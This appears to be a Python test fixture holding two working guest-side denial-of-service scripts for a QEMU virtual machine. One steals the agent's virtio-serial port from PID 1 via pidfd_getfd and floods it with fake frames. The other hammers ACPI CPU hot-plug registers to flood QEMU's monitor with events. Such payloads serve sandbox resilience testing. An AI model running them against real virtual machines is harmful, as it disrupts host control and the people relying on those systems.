"""What a guest's root does to flood the agent's channel from within."""

from __future__ import annotations

from typing import Final

FLOOD: Final = """
import ctypes, os, select, struct
# A port is opened once, and the agent, which is the first process, has it. Root takes a duplicate.
PIDFD_GETFD = 438
libc = ctypes.CDLL(None, use_errno=True)
agent = os.pidfd_open(1)
(number,) = [fd for fd in os.listdir("/proc/1/fd") if "/dev/vport" in os.readlink("/proc/1/fd/" + fd)]
port = libc.syscall(PIDFD_GETFD, agent, int(number), 0)
assert port >= 0, os.strerror(ctypes.get_errno())
# Output of nothing, of a command that ended long ago.
frames = struct.pack("<BII", 0x11, 1, 0) * 3640
while True:
    try:
        os.write(port, frames)
    except BlockingIOError:
        select.select([], [port], [])
"""

FLOOD_OF_EVENTS: Final = """
import ctypes, mmap
# ACPI's hot-plug registers of a CPU, at q35's place. What the guest's firmware says of a CPU that was plugged in is an
# event of QEMU's monitor, each time.
SELECTOR, COMMAND, DATA, SIZE = 0xCD8, 0xCDD, 0xCE0, 12
STATUS = 2
assert ctypes.CDLL(None).ioperm(SELECTOR, SIZE, 1) == 0
# mov edx, edi; mov eax, esi; out dx, al; ret
code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("89fa89f0eec3"))
out = ctypes.CFUNCTYPE(None, ctypes.c_uint, ctypes.c_uint)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
out(SELECTOR, 0)
while True:
    out(COMMAND, STATUS)
    out(DATA, 0)
"""
